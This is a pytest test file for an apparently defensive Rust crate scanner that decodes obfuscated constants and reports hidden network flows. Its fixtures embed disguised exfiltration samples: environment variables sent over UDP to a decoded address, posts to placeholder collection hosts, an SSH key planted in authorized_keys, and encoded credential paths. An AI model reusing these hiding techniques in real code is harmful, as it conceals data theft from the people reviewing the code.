"""The interpreter that runs a crate's own decoders on its constants (scan/interpret/),
and what the data flow does with the names it reveals."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cratewatch.scan.dataflow import unit_flows
from cratewatch.scan.dataflow.summary import function_headers
from cratewatch.scan.interpret import (
    MAX_CALL_STEPS,
    MAX_STEPS,
    Definitions,
    Interpreter,
    Spent,
    hidden_texts,
)
from cratewatch.scan.interpret.paths import package_value
from cratewatch.scan.interpret.values import Text

# a decoder of Roman numerals, which two samples below use
ROMAN = """
fn roman(s: &str) -> u32 {
    let mut total = 0;
    let mut last = 0;
    for c in s.chars().rev() {
        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
        if v < last { total -= v } else { total += v; last = v; }
    }
    total
}
"""


def _probe(source: str, call: str) -> tuple[Interpreter, str, list[Any]]:
    text = source + f"\nfn __probe() {{ {call}; }}\n"
    definitions = Definitions()
    function_headers("src/lib.rs", text.encode(), {}, definitions)
    _, probe = definitions.functions["__probe"][0]
    node = probe.child_by_field_name("body").named_child(0).named_child(0)
    name = node.child_by_field_name("function").text.decode().rsplit("::", 1)[-1]
    arguments = list(node.child_by_field_name("arguments").named_children)
    return Interpreter(definitions), name, arguments


def run(source: str, call: str) -> str | None:
    """What ``call`` returns when it is hidden text, else None."""
    interpreter, name, arguments = _probe(source, call)
    outcome = interpreter.call(name, arguments)
    texts = [] if outcome is None else hidden_texts(outcome)
    return texts[0][0] if texts else None


# -- encodings no list of decoders has


def test_spreadsheet_column_labels_through_closures_fold_and_collect() -> None:
    source = """
const ATLAS: &[&[&str]] = &[&["BS", "BU", "CF", "BT", "CG", "BN"], &["CF", "CA", "BW", "BQ", "BZ"]];
fn column(label: &str) -> u32 {
    label.bytes().fold(0, |n, b| n * 26 + u32::from(b - b'A' + 1))
}
fn row(i: usize) -> String {
    ATLAS.get(i).map(|r| r.iter().map(|c| column(c) as u8 as char).collect()).unwrap_or_default()
}
"""
    assert run(source, "row(0)") == "GITHUB"
    assert run(source, "row(1)") == "TOKEN"


def test_chords_grouped_by_a_maps_entries_summed_as_options_and_split_at_zero() -> None:
    """A fixture's shortcut chords: grouped with `entry(..).or_default().push(..)`, each
    a byte from modifiers summed as `Option`s, the bytes split into texts at zeros."""

    def chord(byte: int) -> str:
        names = ((1, "Ctrl"), (2, "Alt"), (4, "Shift"))
        mods = "+".join(name for bit, name in names if byte >> 4 & bit)
        return (mods + "+" if mods else "") + f"F{(byte & 15) + 1}"

    chords = ",".join(f'"{chord(b)}"' for b in b"api\0key")
    source = f"""
const CHORDS: &[&str] = &[{chords}, "Meta+Print"];
const MODIFIERS: &[(&str, u8)] = &[("Ctrl", 1), ("Alt", 2), ("Shift", 4)];
fn value(chord: &str) -> Option<u8> {{
    let mut parts: Vec<&str> = chord.split('+').collect();
    let n: u8 = parts.pop()?.strip_prefix('F')?.parse().ok()?;
    let mods = parts.iter()
        .map(|p| MODIFIERS.iter().find(|(m, _)| m == p).map(|(_, b)| *b))
        .sum::<Option<u8>>()?;
    Some(mods << 4 | (n - 1))
}}
fn layout() -> Vec<String> {{
    let mut groups: std::collections::BTreeMap<&str, Vec<&str>> = std::collections::BTreeMap::new();
    for c in CHORDS {{ groups.entry("kwin").or_default().push(c); }}
    let mut counts = std::collections::HashMap::new();
    for c in CHORDS {{ *counts.entry(c.len()).or_insert(0) += 1; }}
    let bytes: Vec<u8> = groups.get("kwin")
        .map(|v| v.iter().filter_map(|c| value(c)).collect())
        .unwrap_or_default();
    bytes.split(|b| *b == 0).map(|s| String::from_utf8_lossy(s).into_owned()).collect()
}}
"""
    interpreter, name, arguments = _probe(source, "layout()")
    outcome = interpreter.call(name, arguments)
    assert outcome is not None
    assert [text.value for text in outcome.value] == ["api", "key"]


def test_numbers_parsed_to_a_named_width_have_its_bytes() -> None:
    source = """
const SID: &str = "S-1-5-21-1953722216-1635280174-1701605485";
fn key() -> String {
    let bytes: Vec<u8> = SID.split('-').skip(4)
        .flat_map(|p| p.parse::<u32>().unwrap_or(0).to_le_bytes()).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}
"""
    assert run(source, "key()") == "host.example"
    # out of the width's range, as Rust's `parse` says
    wide = source.replace("1953722216", "99999999999")
    assert run(wide, "key()") != "host.example"


def test_map_while_stops_at_the_first_none() -> None:
    source = """
const CODES: &[u32] = &[104, 111, 115, 116, 0, 120];
fn name() -> String {
    CODES.iter().map_while(|c| char::from_u32(*c).filter(|c| *c != '\\0')).collect()
}
"""
    assert run(source, "name()") == "host"


def test_a_drained_span_leaves_the_rest() -> None:
    source = """
const RAW: [u8; 12] = [0, 0, 0, 114, 101, 108, 97, 121, 46, 116, 101, 115];
fn name() -> Vec<u8> {
    let mut out = RAW.to_vec();
    let lead = out.iter().take_while(|&&b| b == 0).count();
    out.drain(..lead);
    let tail: Vec<u8> = out.drain(5..).collect();
    out.extend(b"-x.".iter().copied());
    out.extend(tail);
    out
}
"""
    assert run(source, "name()") == "relay-x..tes"


def test_text_behind_the_last_nul_of_binary_bytes_is_read() -> None:
    # a trailer appended to an image or a table: the bytes before it are no text
    source = """
const BLOB: [u8; 16] = [200, 13, 255, 0, 109, 64, 114, 101, 108, 97, 121, 46, 116, 101, 115, 116];
fn face() -> Vec<u8> { BLOB.iter().map(|b| b ^ 0).collect() }
fn noise() -> Vec<u8> { BLOB[..3].iter().map(|b| b ^ 0).collect() }
"""
    assert run(source, "face()") == "m@relay.test"
    assert run(source, "noise()") is None
    # ... and text before the NULs that pad it to a table's length
    padded = """
const MASK: [u8; 12] = [104, 116, 116, 112, 115, 58, 47, 47, 120, 0, 0, 0];
fn mask() -> Vec<u8> { MASK.iter().map(|b| b ^ 0).collect() }
"""
    assert run(padded, "mask()") == "https://x"


def test_accents_taken_off_a_pseudo_locales_text() -> None:
    """unicode-normalization's `nfd()` and `is_combining_mark`: a host written as a
    pseudo-locale's accented text."""
    source = """
use unicode_normalization::char::is_combining_mark;
use unicode_normalization::UnicodeNormalization;
const EN_XA: &[(&str, &str)] = &[("mirror", "[ḿĉ.ṡęṙṿěṟ.ẹẍāṃṗḷê:25565 ·· ··]")];
fn base(key: &str) -> Option<String> {
    let v = EN_XA.iter().find(|(k, _)| *k == key)?.1;
    let inner = v.strip_prefix('[')?.strip_suffix(']')?;
    let text = inner.split(" ··").next()?;
    Some(text.nfd().filter(|c| !is_combining_mark(*c)).collect())
}
"""
    assert run(source, 'base("mirror")') == "mc.server.example:25565"


def test_gsm_septets_unpacked_with_an_iterator_a_match_and_a_table() -> None:
    alphabet = (
        "@£$¥èéùìòÇ\\nØø\\rÅåΔ_ΦΓΛΩΠΨΣΘΞ\\u{1b}ÆæßÉ !\\\"#¤%&'()*+,-./0123456789:;<=>?"
        "¡ABCDEFGHIJKLMNOPQRSTUVWXYZÄÖÑÜ§¿abcdefghijklmnopqrstuvwxyzäöñüà"
    )
    septets = [
        0x2F,
        0xB8,
        0xFC,
        0x3D,
        0x7E,
        0xCD,
        0xCB,
        0x6C,
        0xF3,
        0x6B,
        0x4E,
        0x0F,
        0xD3,
        0xEB,
        0x73,
    ]
    packed = ", ".join(map(str, septets))
    source = f"""
const GSM7: &str = "{alphabet}";
const NOTICES: &[(usize, &[u8])] = &[(17, &[{packed}])];
"""
    source += r"""
fn unpack(count: usize, octets: &[u8]) -> String {
    let table: Vec<char> = GSM7.chars().collect();
    let mut out = String::with_capacity(count);
    let (mut acc, mut bits) = (0u32, 0u32);
    let mut it = octets.iter();
    while out.chars().count() < count {
        while bits < 7 {
            match it.next() {
                Some(b) => acc |= u32::from(*b) << bits,
                None => return out,
            }
            bits += 8;
        }
        out.push(table[(acc & 0x7f) as usize]);
        acc >>= 7;
        bits -= 7;
    }
    out
}
pub fn notice(i: usize) -> String {
    NOTICES.get(i).map(|(n, o)| unpack(*n, o)).unwrap_or_default()
}
"""
    assert run(source, "notice(0)") == "/proc/self/status"


def test_roman_numerals_as_character_codes() -> None:
    source = (
        ROMAN
        + """
const CODES: [&str; 4] = ["CIV", "CXVI", "CXVI", "CXII"];
fn word() -> String {
    CODES.iter().map(|c| char::from_u32(roman(c)).unwrap()).collect()
}
"""
    )
    assert run(source, "word()") == "http"


# an enum whose variants are letters by their discriminants: explicit, then one more each
KEYS = """
#[repr(u8)]
#[derive(Clone, Copy, PartialEq)]
pub enum Key { Shift = 0x10, Dot = 0x2E, Slash, A = 0x41, B, C, D, E, F, G, H, I, J, K, L, M,
    N, O, P, Q, R, S, T, U, V, W, X, Y, Z }
use Key::*;
fn letter(k: Key, upper: bool) -> char {
    match k {
        Dot => '.',
        Slash => '/',
        Shift => '\\0',
        _ => { let v = k as u8; if upper { v as char } else { (v + 32) as char } }
    }
}
fn typed(keys: &[Key]) -> String {
    let mut out = String::new();
    let mut shift = false;
    for &k in keys {
        if k == Shift { shift = true; continue; }
        out.push(letter(k, shift));
        shift = false;
    }
    out
}
"""


def test_enum_variants_cast_to_their_discriminants() -> None:
    source = KEYS + "const HOST: &[Key] = &[Shift, E, X, Dot, E, X, A, M, P, L, E, Slash, K, E, Y];"
    assert run(source, "typed(HOST)") == "Ex.example/key"
    # variants named by their enum
    passwd = ", ".join(f"Key::{k}" for k in ["Slash", "E", "T", "C", "Slash", *"PASSWD"])
    assert run(KEYS, f"typed(&[{passwd}])") == "/etc/passwd"


def test_a_variant_two_enums_number_differently_stops_the_call() -> None:
    source = KEYS + (
        "pub enum Other { A = 7, Z }\n"
        "fn code() -> String { ((A as u8) as char).to_string().repeat(8) }"
    )
    assert run(source, "code()") is None
    # a bare name no enum of the unit has is a binding in a pattern, as before
    assert run(KEYS, "typed(&[Shift, H, I, Dot, T, H, E, R, E])") == "Hi.there"


def test_a_key_made_of_the_package_s_name_is_read_from_its_manifest() -> None:
    key, text = b"vault-idx", b"https://collect.example/x"
    table = [b ^ key[i % len(key)] for i, b in enumerate(text)]
    source = (
        'const KEY: &str = env!("CARGO_PKG_NAME");\n'
        f"const HOST: [u8; {len(table)}] = {table};\n"
        "fn dec(d: &[u8]) -> String {\n"
        "    d.iter().zip(KEY.bytes().cycle()).map(|(b, k)| (b ^ k) as char).collect()\n"
        "}\n"
        'pub fn f() { let _ = ureq::post(&dec(&HOST)).send_string("x"); }\n'
    ).encode()
    manifest = b'[package]\nname = "vault-idx"\nversion = "0.4.0"\n'
    files = {"Cargo.toml": manifest, "src/lib.rs": source}
    found = unit_flows({"src/lib.rs": source}, "vault-idx", resources=files)
    assert [r.text for r in found.revealed] == [text.decode()]
    # without the manifest the key is not known: nothing is read
    assert unit_flows({"src/lib.rs": source}, "vault-idx").revealed == []


def test_the_package_s_variables_as_cargo_sets_them() -> None:
    files = {"Cargo.toml": b'[package]\nname = "my-crate"\nversion.workspace = true\n'}
    assert package_value("CARGO_PKG_NAME", "src/lib.rs", files) == "my-crate"
    assert package_value("CARGO_CRATE_NAME", "src/lib.rs", files) == "my_crate"
    assert package_value("CARGO_PKG_VERSION", "src/lib.rs", files) is None  # the workspace's
    assert package_value("CARGO_PKG_NAME", "src/lib.rs", {"Cargo.toml": b"[package"}) is None
    deep = b'[package]\nname = "x"\nz = ' + b"[" * 30_000 + b"]" * 30_000 + b"\n"
    assert package_value("CARGO_PKG_NAME", "src/lib.rs", {"Cargo.toml": deep}) is None
    authors = {"Cargo.toml": b'[package]\nname = "a"\nauthors = ["A <a@x>", "B"]\n'}
    assert package_value("CARGO_PKG_AUTHORS", "src/lib.rs", authors) == "A <a@x>:B"


def test_a_linear_congruential_keystream() -> None:
    plain = b"203.0.113.7:4444"
    state, data = 12345, []
    for byte in plain:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        data.append(byte ^ (state >> 16) & 0xFF)
    source = f"""
const BLOB: [u8; {len(data)}] = {data};
fn unveil(seed: u32) -> String {{
    let mut state = seed;
    let mut out = Vec::new();
    for b in BLOB.iter() {{
        state = state.wrapping_mul(1103515245).wrapping_add(12345) & 0x7fffffff;
        out.push(b ^ ((state >> 16) & 0xff) as u8);
    }}
    String::from_utf8(out).unwrap()
}}
"""
    assert run(source, "unveil(12345)") == plain.decode()


def test_a_block_cipher_writing_its_output_through_a_mutable_reference() -> None:
    # TEA: `decipher(&mut block, &KEY)` assigns `*v = [v0, v1]`, which the caller's
    # array must see
    source = """
const KEY: [u32; 4] = [0x0123_4567, 0x89AB_CDEF, 0xFEDC_BA98, 0x7654_3210];
const SEALED: [u32; 8] = [
    0x30f983bd, 0xe25cb010, 0x24883ad3, 0x6887e56e, 0x5260efb7, 0xdee6c246, 0xb2326e91, 0x81a065a6,
];
fn decipher(v: &mut [u32; 2], k: &[u32; 4]) {
    let (mut v0, mut v1, mut sum) = (v[0], v[1], 0x9E37_79B9u32.wrapping_mul(32));
    for _ in 0..32 {
        let a = (v0 << 4).wrapping_add(k[2]) ^ v0.wrapping_add(sum) ^ (v0 >> 5).wrapping_add(k[3]);
        v1 = v1.wrapping_sub(a);
        let b = (v1 << 4).wrapping_add(k[0]) ^ v1.wrapping_add(sum) ^ (v1 >> 5).wrapping_add(k[1]);
        v0 = v0.wrapping_sub(b);
        sum = sum.wrapping_sub(0x9E37_79B9);
    }
    *v = [v0, v1];
}
fn open(words: &[u32]) -> String {
    let mut out = Vec::new();
    for pair in words.chunks(2) {
        let mut b = [pair[0], pair[1]];
        decipher(&mut b, &KEY);
        out.extend_from_slice(&b[0].to_le_bytes());
        out.extend_from_slice(&b[1].to_le_bytes());
    }
    while out.last() == Some(&0) {
        out.pop();
    }
    String::from_utf8_lossy(&out).into_owned()
}
"""
    assert run(source, "open(&SEALED)") == "https://relay.example/drop"


def test_a_rail_fence_with_loops_indexing_and_break() -> None:
    source = """
fn unfence(s: &str, rails: usize) -> String {
    let chars: Vec<char> = s.chars().collect();
    let n = chars.len();
    let mut pattern = vec![0usize; n];
    let (mut rail, mut down) = (0usize, true);
    for i in 0..n {
        pattern[i] = rail;
        if rails == 1 { continue; }
        if down { if rail + 1 == rails { down = false; rail -= 1; } else { rail += 1; } }
        else if rail == 0 { down = true; rail += 1; } else { rail -= 1; }
    }
    let mut out = vec![' '; n];
    let mut k = 0;
    for r in 0..rails {
        for i in 0..n {
            if pattern[i] == r { out[i] = chars[k]; k += 1; }
        }
    }
    out.into_iter().collect()
}
"""
    fenced = _rail_fence("/etc/passwd", 3)
    assert run(source, f'unfence("{fenced}", 3)') == "/etc/passwd"


def _rail_fence(text: str, rails: int) -> str:
    rows: list[list[str]] = [[] for _ in range(rails)]
    rail, step = 0, 1
    for c in text:
        rows[rail].append(c)
        if rail + step not in range(rails):
            step = -step
        rail += step
    return "".join("".join(r) for r in rows)


@settings(max_examples=60, deadline=None)
@given(
    st.text(
        alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=6, max_size=40
    ),
    st.binary(min_size=1, max_size=8).filter(lambda k: all(k)),
)
def test_any_repeating_xor_key_is_undone(text: str, key: bytes) -> None:
    data = [b ^ key[i % len(key)] for i, b in enumerate(text.encode())]
    source = f"""
const DATA: [u8; {len(data)}] = {data};
const KEY: &[u8] = &{list(key)};
fn unmask(data: &[u8], key: &[u8]) -> String {{
    data.iter().enumerate().map(|(i, b)| (b ^ key[i % key.len()]) as char).collect()
}}
"""
    interpreter, name, arguments = _probe(source, "unmask(&DATA, KEY)")
    outcome = interpreter.call(name, arguments)
    assert outcome is not None
    assert outcome.value.value == text


# -- what is not hidden, and what the interpreter does not follow


def test_a_function_that_only_formats_its_arguments_hides_nothing() -> None:
    source = """
fn worker(i: u32) -> String { format!("worker-{i}") }
fn hex(n: u64) -> String { format!("{:x}", n) }
fn greet(name: &str) -> String { format!("hello, {}", name) }
"""
    assert run(source, "worker(3)") is None
    assert run(source, "hex(0xdeadbeef)") is None
    assert run(source, 'greet("world")') is None


def test_input_output_structs_and_unknown_calls_stop_the_call() -> None:
    source = """
struct S { a: u8 }
fn io() -> String { std::fs::read_to_string("/etc/hostname").unwrap() }
fn built() -> String { let s = S { a: 1 }; s.a.to_string() }
fn unsafe_read(p: *const u8) -> u8 { unsafe { *p } }
"""
    assert run(source, "io()") is None
    assert run(source, "built()") is None


def test_a_panic_stops_the_call() -> None:
    source = (
        "fn f(i: usize) -> String { let v: Vec<u8> = vec![104, 105]; (v[i] as char).to_string() }"
    )
    assert run(source, "f(9)") is None


# -- hostile code: every call is bounded


def test_an_endless_loop_stops_at_the_call_limit() -> None:
    source = "fn spin(n: u32) -> String { let mut i = n; loop { i = i.wrapping_add(1); } }"
    started = time.perf_counter()
    assert run(source, "spin(1)") is None
    assert time.perf_counter() - started < 2


def test_large_values_are_paid_for_and_refused() -> None:
    source = """
fn grow(n: usize) -> String {
    let big = vec![0u8; 60000];
    let mut all = Vec::new();
    for _ in 0..n { all.push(big.clone()); }
    String::from("done")
}
fn wide(n: usize) -> String { "x".repeat(n) }
fn nested(n: usize) -> String { let v = [[0u8; 65536]; 65536]; String::new() }
fn padded(n: u32) -> String { format!("{:0999999999}", n) }
"""
    started = time.perf_counter()
    for call in ("grow(100000)", "wide(100000000)", "nested(1)", "padded(1)"):
        assert run(source, call) is None
    assert time.perf_counter() - started < 5


def test_deep_recursion_stops() -> None:
    source = 'fn down(n: u64) -> String { if n == 0 { String::from("x") } else { down(n - 1) } }'
    assert run(source, "down(100000)") is None


def test_the_units_steps_run_out() -> None:
    source = "fn spin(n: u32) -> String { let mut i = n; loop { i = i.wrapping_add(1); } }"
    interpreter, name, _ = _probe(source, "spin(1)")
    # (each call given other constants: the same call at another place is not run again)
    calls = [_probe(source, f"spin({n})")[2] for n in range(MAX_STEPS // MAX_CALL_STEPS + 2)]
    spent = False
    try:
        for arguments in calls:
            interpreter.call(name, arguments)
    except Spent:
        spent = True
    assert spent


def test_the_same_constants_given_again_are_not_run_again() -> None:
    source = (
        "fn slow(n: u32) -> String { (0..n).map(|i| char::from(b'a' + (i % 26) as u8)).collect() }"
    )
    interpreter, name, arguments = _probe(source, "slow(5000)")
    first = interpreter.call(name, arguments)
    steps = interpreter.steps
    again = interpreter.call(name, _probe(source, "slow(5000)")[2])
    assert again is first and interpreter.steps == steps


# -- what the data flow does with a revealed name


def test_a_decoded_address_makes_the_destination_fixed_and_is_reported() -> None:
    source = (
        ROMAN
        + """
const PARTS: [&str; 4] = ["CXCVIII", "LI", "C", "LXXXVIII"];
fn endpoint() -> String {
    let quad: Vec<String> = PARTS.iter().map(|p| roman(p).to_string()).collect();
    format!("{}:{}", quad.join("."), 8443)
}
pub fn sync() {
    let all: Vec<(String, String)> = std::env::vars().collect();
    let sock = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let _ = sock.send_to(format!("{:?}", all).as_bytes(), endpoint());
}
"""
    )
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == ["198.51.100.88:8443"]
    (flow,) = found.flows
    assert flow.fixed and flow.hidden and "environment" in flow.sources


def test_socket_addresses_built_from_computed_numbers_are_revealed() -> None:
    source = """
const PEER: [(u8, u8); 4] = [(29, 0), (0, 0), (16, 1), (11, 0)];
fn peer_addr() -> std::net::SocketAddr {
    let o: Vec<u8> = PEER.iter().map(|(a, b)| a * 7 + b).collect();
    std::net::SocketAddr::from(([o[0], o[1], o[2], o[3]], 443))
}
fn ip() -> std::net::Ipv4Addr { std::net::Ipv4Addr::from(0xCB00_7109u32) }
fn local() -> std::net::SocketAddr { std::net::SocketAddr::from(([127, 0, 0, 1], 8080)) }
"""
    assert run(source, "peer_addr()") == "203.0.113.77:443"
    assert run(source, "ip()") == "203.0.113.9"
    assert run(source, "local()") is None  # written out in the source: nothing hidden


def test_a_request_to_a_url_a_function_of_no_arguments_rebuilds_is_a_flow() -> None:
    source = """
const SCHED: [u8; 12] = [66, 95, 88, 93, 93, 21, 31, 30, 65, 71, 85, 65];
fn schedule_url() -> String {
    SCHED.iter().enumerate().map(|(i, b)| (b ^ (0x2a + i as u8)) as char).collect()
}
pub async fn slot() { let _ = reqwest::get(schedule_url()).await; }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == ["https://stat"]
    assert [(f.action, f.hidden, f.sources) for f in found.flows] == [
        ("contact", True, frozenset())
    ]


def test_a_plain_url_builder_is_no_flow() -> None:
    source = """
const BASE: &str = "https://api.example.com";
fn endpoint(version: u32) -> String { format!("{}/v{}/items", BASE, version) }
pub async fn list() { let _ = reqwest::get(endpoint(2)).await; }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert found.revealed == [] and found.flows == []


def test_whitespace_in_an_included_file_and_a_tuple_of_results() -> None:
    bits = "".join(f"{byte:08b}" for byte in b"pool.example:3333|wallet42")
    padded = "".join(
        f"const L{i}: u8 = 0;" + bits[i : i + 8].replace("0", " ").replace("1", "\t") + "\n"
        for i in range(0, len(bits), 8)
    )
    source = """
fn parameters() -> (String, String) {
    let mut out = Vec::new();
    for line in include_str!("table.rs").lines() {
        let body = line.trim_end_matches([' ', '\\t']);
        let pad = &line[body.len()..];
        if pad.len() == 8 {
            out.push(pad.bytes().fold(0u8, |acc, c| (acc << 1) | (c == b'\\t') as u8));
        }
    }
    let text = String::from_utf8(out).unwrap_or_default();
    let (a, b) = text.split_once('|').unwrap_or(("", ""));
    (a.to_string(), b.to_string())
}
pub fn calibrate() {
    let (service, _id) = parameters();
    let _ = std::net::TcpStream::connect(&service);
}
"""
    files = {"src/lib.rs": source.encode(), "src/table.rs": padded.encode()}
    found = unit_flows(files, "sample")
    assert [r.text for r in found.revealed] == ["pool.example:3333", "wallet42"]
    assert [(f.action, f.hidden) for f in found.flows] == [("contact", True)]


def test_split_inclusive_keeps_each_separator() -> None:
    source = """
const ROWS: &str = "\\x67!\\x68!\\x6f!\\x73!\\x74";
fn kept(t: &str) -> Vec<String> { t.split_inclusive('!').map(String::from).collect() }
fn last_of_each() -> String {
    ROWS.split_inclusive(|c: char| c == '!').map(|p| p.trim_end_matches('!')).collect()
}
"""
    interpreter, name, arguments = _probe(source, 'kept("a!b!!c!")')
    outcome = interpreter.call(name, arguments)
    assert outcome is not None
    assert [t.value for t in outcome.value] == ["a!", "b!", "!", "c!"]
    assert run(source, "last_of_each()") == "ghost"


def test_trimming_by_an_array_or_a_closure_of_characters() -> None:
    source = """
fn both(t: &str) -> String { t.trim_matches(['[', ']', '*']).to_string() }
fn leading(t: &str) -> String { t.trim_start_matches(|c: char| c.is_ascii_digit()).to_string() }
fn trailing(t: &str) -> String { t.trim_end_matches(|c| c == '=').to_string() }
"""
    for call, expected in [
        ('both("*[evil.example]*")', "evil.example"),
        ('leading("0042hosts")', "hosts"),
        ('trailing("c2.test==")', "c2.test"),
    ]:
        interpreter, name, arguments = _probe(source, call)
        outcome = interpreter.call(name, arguments)
        assert outcome is not None and outcome.value.value == expected


def test_an_account_address_made_of_twenty_bytes() -> None:
    source = """
const LIST: &[u8] = &[0x94, 0x5f, 0x12, 0xa1, 0x0c, 0x9d, 0x45, 0xd1, 0x3f, 0x78, 0x22,
    0x6c, 0x81, 0x0a, 0xce, 0x20, 0x43, 0xbf, 0x54, 0x6b, 0x11];
fn spender() -> Address {
    let bytes: Vec<u8> = LIST[1..].iter().map(|b| b.wrapping_sub(1)).collect();
    Address::from_slice(&bytes)
}
fn short() -> H160 { H160::from_slice(&LIST[1..5]) }
"""
    assert run(source, "spender()") == "0x5e11a00b9c44d03e77216b8009cd1f42be536a10"
    assert run(source, "short()") is None  # not an account's 20 bytes


def test_a_piece_of_a_literal_is_in_plain_sight() -> None:
    source = """
fn first(s: &str) -> String { s.split_once(' ').map(|(a, _)| a.to_string()).unwrap_or_default() }
fn shout(s: &str) -> String { s.to_uppercase() }
"""
    assert run(source, 'first("telemetry endpoint")') is None
    assert run(source, 'shout("x-api-key")') is None


def test_a_percent_encoded_literal_is_in_plain_sight() -> None:
    source = """
fn urlenc(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' => (b as char).to_string(),
            b' ' => "+".to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}
fn unmask(s: &str) -> String { s.bytes().map(|b| (b ^ 1) as char).collect() }
"""
    assert run(source, 'urlenc("is:pr reviewed-by:@me")') is None
    # what a decoder reveals stays hidden, percent-encoded or not
    assert run(source, 'unmask("dyhm$3B/.")') == "exil%2C./"


def test_integers_parsed_in_a_radix_have_their_type() -> None:
    source = """
fn word(s: &str) -> String {
    let v = u64::from_str_radix(s, 36).unwrap_or(0);
    String::from_utf8_lossy(&v.to_be_bytes()[2..]).into_owned()
}
"""
    assert run(source, 'word("0YFJL6PFMG")') == "XX31EX"


def test_a_cipher_of_a_readable_literal_in_a_macros_arguments_is_run() -> None:
    source = """
fn fold(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            _ => c,
        })
        .collect()
}
pub fn flush(body: String) {
    let endpoint = format!("{}?id={}", fold("uggcf://nanylgvpf.rknzcyr/pbyyrpg"), 7);
    let _ = ureq::post(&endpoint).send_string(&body);
}
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == ["https://analytics.example/collect"]
    assert [(f.action, f.hidden, f.fixed) for f in found.flows] == [("contact", True, True)]


def test_a_function_that_reads_the_environment_decodes_nothing() -> None:
    # `flags(PACKAGES)` transforms bytes (`from_utf8`) and is given a named constant, but
    # it runs a program: what it returns comes from the machine, not from its constants
    source = """
const PACKAGES: &[&str] = &["gtk+-3.0"];
fn flags(packages: &[&str]) -> Vec<String> {
    let tool = std::env::var_os("PKG_CONFIG").unwrap_or_else(|| "pkg-config".into());
    let out = std::process::Command::new(tool).args(packages).output().unwrap();
    String::from_utf8(out.stdout).unwrap().split_whitespace().map(String::from).collect()
}
pub fn compile() { std::process::Command::new("cc").args(flags(PACKAGES)).status().ok(); }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert found.flows == [] and found.revealed == []


def test_coordinates_floored_into_character_codes() -> None:
    source = """
const REGIONS: &[&[(f64, f64)]] = &[&[(0.7775, -41.5593), (1.8669, -43.4270), (-1.7664, -43.3748)]];
fn grid(i: usize) -> String {
    let Some(r) = REGIONS.get(i) else { return String::new() };
    let mut out = Vec::with_capacity(r.len() * 2);
    for (lat, lon) in r.iter() {
        out.push((lat.floor() as i32 + 50) as u8);
        out.push((lon.floor() as i32 + 90) as u8);
    }
    String::from_utf8(out).unwrap_or_default()
}
"""
    interpreter, name, arguments = _probe(source, "grid(0)")
    outcome = interpreter.call(name, arguments)
    assert outcome is not None and outcome.value.value == "203.0."  # a piece of an address


def test_a_table_entry_handed_to_a_decoder_is_run_without_a_network() -> None:
    source = """
const MIRRORED: &[&str] = &[".hhs/zfgsliravw_pvbh"];
fn unmirror(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (b'a' + (b'z' - c as u8)) as char,
            'A'..='Z' => (b'A' + (b'Z' - c as u8)) as char,
            _ => c,
        })
        .collect()
}
fn m(i: usize) -> String { MIRRORED.get(i).map(|s| unmirror(s)).unwrap_or_default() }
pub fn plant(home: std::path::PathBuf) {
    let _ = std::fs::write(home.join(m(0)), "ssh-ed25519 AAAA");
}
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample", sending=False)
    assert [r.text for r in found.revealed] == [".ssh/authorized_keys"]
    assert [(f.action, f.hidden) for f in found.flows] == [("write", True)]


def test_wildcards_in_patterns_utf16_and_conditional_values() -> None:
    source = """
const PAIRS: [(u8, u8); 3] = [(104, 0), (105, 1), (33, 2)];
const WIDE: [u16; 6] = [0x68, 0x74, 0x74, 0x70, 0x73, 0x3a];
fn first(v: Option<u8>) -> String {
    match v { Some(_) => "some".to_string(), None => String::new() }
}
fn keys() -> String { PAIRS.iter().map(|(k, _)| *k as char).collect() }
fn wide() -> String { String::from_utf16_lossy(&WIDE) }
fn gated(on: bool) -> String { on.then(|| wide()).unwrap_or_default() }
fn at(s: &str) -> usize { s.find(|c: char| c.is_ascii_digit()).unwrap_or(99) }
"""
    assert run(source, "keys()") is None  # "hi!": too short to hide anything
    interpreter, name, arguments = _probe(source, "keys()")
    assert interpreter.call(name, arguments).value.value == "hi!"
    assert run(source, "wide()") == "https:"
    assert run(source, "gated(true)") == "https:"
    interpreter, name, arguments = _probe(source, "first(Some(3))")
    assert interpreter.call(name, arguments).value.value == "some"
    interpreter, name, arguments = _probe(source, 'at("ab3")')
    assert interpreter.call(name, arguments).value == 2


def test_a_constant_that_cannot_be_computed_stops_every_use() -> None:
    source = """
const BROKEN: [u8; 2] = [1, unknown_function()];
fn a() -> String { BROKEN.iter().map(|b| *b as char).collect() }
"""
    interpreter, name, arguments = _probe(source, "a()")
    assert interpreter.call(name, arguments) is None
    assert interpreter.call(name, arguments) is None
    assert interpreter.constant_values["BROKEN"] is False


def test_typed_integers_wrap_and_have_bytes() -> None:
    source = """
const LIMBS: [u64; 2] = [0x69777261642f622f, 0x0000000000002d6e];
fn limbs(w: &[u64]) -> String {
    let mut v: Vec<u8> = w.iter().flat_map(|x| x.to_le_bytes()).collect();
    while v.last() == Some(&0) { v.pop(); }
    String::from_utf8_lossy(&v).into_owned()
}
fn fnv(s: &str) -> String {
    let mut h: u32 = 0x811c9dc5;
    for b in s.bytes() { h ^= b as u32; h = h.wrapping_mul(16777619); }
    format!("{h:08x}")
}
fn rot(x: u8) -> u8 { x.rotate_left(3) }
fn sum(n: u8) -> u8 { let mut a: u8 = 250; a += n; a }
"""
    assert run(source, "limbs(&LIMBS)") == "/b/darwin-"
